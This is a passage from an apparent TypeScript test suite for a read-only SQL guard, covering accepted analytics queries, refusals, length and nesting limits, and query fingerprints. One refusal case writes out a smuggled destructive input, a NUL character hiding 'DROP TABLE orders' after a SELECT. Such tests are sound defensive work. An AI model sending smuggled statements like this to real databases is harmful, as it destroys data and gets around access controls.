  { name: 'SESSION_USER', sql: 'SELECT session_user', construct: 'SESSION_USER', mentions: ['SESSION_USER'] },
  { name: 'CURRENT_SCHEMA', sql: 'SELECT current_schema', construct: 'CURRENT_SCHEMA', mentions: ['CURRENT_SCHEMA'] },
  { name: 'operator from another schema', sql: 'SELECT 1 OPERATOR(public.+) 2', construct: 'operator public.+', mentions: ['public.+'] },
  {
    name: 'ORDER BY USING an app operator',
    sql: 'SELECT store_id FROM orders ORDER BY store_id USING OPERATOR(app.<)',
    construct: 'operator app.<',
    mentions: ['app.<'],
  },
  { name: 'SQL/JSON constructor', sql: "SELECT json_object('a': 1)", construct: 'JsonObjectConstructor', mentions: ['json_build_object'] },
  {
    name: 'TABLESAMPLE with an extension method',
    sql: 'SELECT * FROM orders TABLESAMPLE system_rows (10)',
    construct: 'TABLESAMPLE system_rows',
    mentions: ['system_rows', 'BERNOULLI'],
  },
  {
    name: 'column definition list',
    sql: 'SELECT * FROM unnest(ARRAY[1]) AS t(a int)',
    construct: 'column definition list',
    mentions: ['Column definition lists'],
  },

  // --- input hygiene ---------------------------------------------------------------------------------------------
  { name: 'empty string', sql: '', construct: 'empty query', mentions: ['empty'] },
  { name: 'whitespace only', sql: ' \n\t ', construct: 'empty query', mentions: ['empty'] },
  { name: 'comment only', sql: '-- SELECT 1', construct: 'empty query', mentions: ['no statement'] },
  { name: 'semicolons only', sql: ';;', construct: 'empty query', mentions: ['no statement'] },
  { name: 'NUL character hiding a second statement', sql: 'SELECT 1\u0000; DROP TABLE orders', construct: 'NUL character', mentions: ['NUL'] },
  { name: 'lone surrogate', sql: "SELECT '\uD800'", construct: 'invalid Unicode', mentions: ['Unicode'] },
  {
    name: 'syntax error',
    sql: 'SELECT store_id FROM orders WHERE',
    construct: 'syntax',
    mentions: ['Syntax error', 'end of input'],
    code: 'SQL_SYNTAX',
  },
  { name: 'misspelled keyword', sql: 'SELEC * FROM orders', construct: 'syntax', mentions: ['SELEC'], code: 'SQL_SYNTAX' },
  {
    name: 'over the default length limit',
    sql: `SELECT 1 AS x${' '.repeat(20_000)}`,
    construct: 'query length',
    mentions: ['20000'],
    code: 'SQL_TOO_LONG',
  },
];

/** The options the server passes: refusals about catalogs point at its schema tool. */
const SERVER_OPTIONS = { schemaTool: CATALOG_HINT };

async function check(sql: string): Promise<GuardResult> {
  return checkReadOnlySql(sql, SERVER_OPTIONS);
}

function describeResult(r: GuardResult): string {
  return r.ok ? 'accepted' : `${r.code} [${r.construct ?? ''}] ${r.message}`;
}

describe('checkReadOnlySql: analytics queries pass', () => {
  it('has a substantial shared list of analytics queries', () => {
    expect(ANALYTICS_QUERIES.length).toBeGreaterThanOrEqual(30);
    expect(new Set(ANALYTICS_QUERIES.map((q) => q.name)).size).toBe(ANALYTICS_QUERIES.length);
  });

  it.each(ANALYTICS_QUERIES.map((q) => [q.name, q.sql] as const))('accepts: %s', async (_name, sql) => {
    const r = await check(sql);
    expect(r.ok, describeResult(r)).toBe(true);
    if (r.ok) expect(r.fingerprint).toMatch(/^[0-9a-f]{32}$/);
  });

  it.each(EXTRA_ALLOWED.map((q) => [q.name, q.sql] as const))('accepts edge case: %s', async (_name, sql) => {
    const r = await check(sql);
    expect(r.ok, describeResult(r)).toBe(true);
  });
});

describe('checkReadOnlySql: refusals', () => {
  it('covers a broad set of refusals', () => {
    expect(REFUSED.length).toBeGreaterThanOrEqual(60);
    expect(new Set(REFUSED.map((c) => c.name)).size).toBe(REFUSED.length);
  });

  it.each(REFUSED.map((c) => [c.name, c] as const))('refuses: %s', async (_name, c) => {
    const r = await check(c.sql);
    expect(r.ok, `expected a refusal for ${JSON.stringify(c.sql.slice(0, 200))}`).toBe(false);
    if (r.ok) return;
    expect(r.code, r.message).toBe(c.code ?? 'SQL_NOT_ALLOWED');
    expect(r.construct, r.message).toBe(c.construct);
    for (const m of c.mentions) expect(r.message).toContain(m);
  });
});

describe('checkReadOnlySql: options and limits', () => {
  it('applies a custom maxQueryLength', async () => {
    const r = await checkReadOnlySql('SELECT count(*) FROM orders', { maxQueryLength: 10 });
    expect(r).toMatchObject({ ok: false, code: 'SQL_TOO_LONG', construct: 'query length' });
    expect(r.ok ? '' : r.message).toContain('limit is 10');
    expect((await checkReadOnlySql('SELECT 1', { maxQueryLength: 10 })).ok).toBe(true);
  });

  it('accepts a query of exactly the default maximum length', async () => {
    const base = 'SELECT 1 AS x';
    const r = await check(base + ' '.repeat(20_000 - base.length));
    expect(r.ok, describeResult(r)).toBe(true);
  });

  it('refuses deep nesting and keeps working after the parser overflows its stack', async () => {
    const deepArithmetic = `SELECT ${'1+'.repeat(9_990)}1`; // 19,988 characters: deep enough to overflow the WASM stack
    const deepSubqueries = `SELECT ${'(SELECT'.repeat(2_480)} 1${')'.repeat(2_480)}`;
    const reference = await Promise.all(ANALYTICS_QUERIES.slice(0, 5).map((q) => check(q.sql)));
    for (let i = 0; i < 30; i++) {
      for (const sql of [deepArithmetic, deepSubqueries]) {
        const r = await check(sql);
        expect(r).toMatchObject({ ok: false, code: 'SQL_NOT_ALLOWED', construct: 'query complexity' });
      }
      const again = await Promise.all(ANALYTICS_QUERIES.slice(0, 5).map((q) => check(q.sql)));
      expect(again).toEqual(reference);
    }
  });

  it('refuses parenthesis nesting that exhausts the parser', async () => {
    const r = await checkReadOnlySql(`SELECT ${'('.repeat(12_000)}1${')'.repeat(12_000)}`, { maxQueryLength: 30_000 });
    expect(r).toMatchObject({ ok: false, code: 'SQL_NOT_ALLOWED', construct: 'query complexity' });
  });

  it('gives correct answers to concurrent callers while an instance is being replaced', async () => {
    const deep = `SELECT ${'1+'.repeat(9_990)}1`;
    const good = ANALYTICS_QUERIES[0]?.sql ?? 'SELECT 1';
    const bad = "SELECT set_config('a', 'b', false)";
    const results = await Promise.all(Array.from({ length: 30 }, (_, i) => check([deep, good, bad][i % 3] ?? good)));
    results.forEach((r, i) => {
      if (i % 3 === 0) expect(r).toMatchObject({ ok: false, construct: 'query complexity' });
      if (i % 3 === 1) expect(r.ok, describeResult(r)).toBe(true);
      if (i % 3 === 2) expect(r).toMatchObject({ ok: false, construct: 'function set_config' });
    });
  });
});

describe('checkReadOnlySql: fingerprint', () => {
  it('is stable across constants, whitespace, comments and keyword case', async () => {
    const a = await check('SELECT store_id, sum(total_amount) FROM order_items WHERE quantity > 2 AND store_id = 1 GROUP BY store_id');
    const b = await check(
      'select store_id,\n  SUM(total_amount) -- revenue\nfrom order_items where quantity > 99 and store_id = 7 group by store_id;',
    );
    expect(a.ok && b.ok).toBe(true);
    if (a.ok && b.ok) expect(a.fingerprint).toBe(b.fingerprint);
  });

  it('differs when the shape differs', async () => {
    const shapes = await Promise.all([
      check('SELECT store_id FROM orders'),
      check('SELECT store_id FROM customers'),
      check('SELECT customer_id FROM orders'),
      check('SELECT store_id FROM orders WHERE store_id = 1'),
      check('SELECT DISTINCT store_id FROM orders'),
      check('SELECT max(store_id) FROM orders'),
    ]);
    const prints = shapes.map((r) => (r.ok ? r.fingerprint : describeResult(r)));
    expect(new Set(prints).size).toBe(prints.length);
  });
});

describe('checkReadOnlySql: statement text', () => {
  // The server wraps the statement as `SELECT * FROM (<statement>) ... LIMIT n`, so what surrounds it must go.
  it.each([
    ['SELECT 1; -- done', 'SELECT 1'],
    ['SELECT 1;;  ', 'SELECT 1'],
    ['-- revenue by store\nSELECT store_id FROM orders ; /* end */', 'SELECT store_id FROM orders'],
    ["SELECT 'é€' AS s; -- multi-byte text before the end", "SELECT 'é€' AS s"],
    ['SELECT 1 -- inside, before the semicolon\n;', 'SELECT 1 -- inside, before the semicolon'],
  ])('%j runs as %j', async (sql, statement) => {
    const result = await check(sql);
    expect(result.ok && result.statement).toBe(statement);
  });
});
